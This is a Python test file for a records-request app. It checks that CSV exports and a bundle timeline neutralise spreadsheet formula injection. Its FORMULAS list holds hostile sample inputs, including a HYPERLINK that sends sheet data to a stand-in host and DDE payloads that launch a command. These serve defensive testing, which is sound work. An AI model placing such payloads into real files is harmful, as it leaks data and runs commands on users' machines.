"""Every CSV the product writes comes from records/core/csvout.py and is spreadsheet-safe."""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from pathlib import Path

import pytest
from sqlmodel import select

from records.core import csvout
from records.core.models import RecordRequest
from tests.conftest import assert_redirect, bearer, login

ROOT = Path(__file__).resolve().parent.parent / "records"
# Payloads a spreadsheet would run: a link that leaks the sheet, a DDE call, arithmetic, an
# @-function, and tab / carriage-return / full-width variants.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


def _rows(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith(csvout.BOM), "UTF-8 with a byte-order mark, for Excel"
    return list(csv.reader(io.StringIO(text.removeprefix(csvout.BOM))))


def _assert_safe(rows: list[list[str]]) -> None:
    starts = tuple(csvout.FORMULA_STARTS)
    bad = [cell for row in rows for cell in row if cell.startswith(starts)]
    assert bad == [], f"cells that would run as formulas: {bad}"


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_formula_cell_is_neutralised(payload):
    assert csvout.cell(payload) == "'" + payload


def test_numbers_stay_numbers_and_other_text_is_untouched():
    assert [csvout.cell(v) for v in (5, -3, 2.5, None, True, "MOA 2024", "'quoted")] == [
        5,
        -3,
        2.5,
        "",
        "true",
        "MOA 2024",
        "'quoted",
    ]
    text = csvout.text(["a", "b"], [["=1", -3], ["x,y", 'say "hi"']])
    assert text == csvout.BOM + '"a","b"\r\n"\'=1","-3"\r\n"x,y","say ""hi"""\r\n'


def test_stream_yields_the_header_then_one_chunk_per_row():
    chunks = list(csvout.stream(["h"], ([n] for n in range(3))))
    assert chunks == [csvout.BOM + '"h"\r\n', '"0"\r\n', '"1"\r\n', '"2"\r\n']


def test_no_other_module_writes_csv():
    """One writer: a csv.writer or DictWriter anywhere else in the product fails here."""
    found = []
    for path in sorted(ROOT.rglob("*.py")):
        if path == ROOT / "core" / "csvout.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                found.append(f"{path.relative_to(ROOT.parent)}:{node.lineno}")
    assert found == [], f"write CSV through records.core.csvout: {found}"


def test_audit_export_neutralises_formulas(client, db, factory):
    org = factory.org()
    owner = factory.user(org, email="-2+3@example.org")  # a valid address a sheet would compute
    login(client, owner, org)
    for payload in FORMULAS:
        factory.request(org, owner, title=payload)
    resp = client.get("/audit/export.csv")
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = _rows(resp.data)
    assert rows[0][:4] == ["id", "at", "actor_id", "actor_email"]
    _assert_safe(rows)
    # A change made through the app has an actor, so the export gets an actor_email cell.
    agency = factory.agency(org)
    resp = client.post(
        "/requests/new",
        data={"title": "=1+1", "subject": "agreements", "agency_id": agency.id},
    )
    created = db.exec(select(RecordRequest).where(RecordRequest.title == "=1+1")).one()
    assert_redirect(resp, f"/requests/{created.id}")
    rows = _rows(client.get("/audit/export.csv").data)
    _assert_safe(rows)
    assert "'-2+3@example.org" in {r[3] for r in rows[1:]}


def test_bundle_timeline_neutralises_formulas(app, client, db, factory):
    org = factory.org()
    user = factory.user(org)
    token = factory.token(user, org)
    req = factory.request(org, user, title="Sheriff 287(g) records")
    login(client, user, org)
    notes = iter(FORMULAS)
    resp = client.post(
        f"/requests/{req.id}/events",
        data={"kind": "sent", "on": "2026-11-20", "note": next(notes)},
    )
    assert_redirect(resp, f"/requests/{req.id}")
    for name in ("=2+5.txt", "@SUM(1,2).txt", "+cmd.txt", "-x.txt"):
        upload = client.post(
            f"/api/v1/requests/{req.id}/documents",
            data={"file": (io.BytesIO(b"released records"), name), "date_received": "2026-11-21"},
            headers=bearer(token),
            content_type="multipart/form-data",
        )
        assert upload.status_code == 201, upload.json
    resp = client.get(f"/requests/{req.id}/bundle.zip")
    assert resp.status_code == 200
    with zipfile.ZipFile(io.BytesIO(resp.data)) as zf:
        rows = _rows(zf.read("timeline.csv"))
    resp.close()
    assert rows[0] == ["date", "what", "detail", "extra"]
    _assert_safe(rows)
    details = {r[2] for r in rows[1:]}
    assert "'" + FORMULAS[0] in details
    assert {"'=2+5.txt", "'@SUM(1,2).txt", "'+cmd.txt", "'-x.txt"} <= details
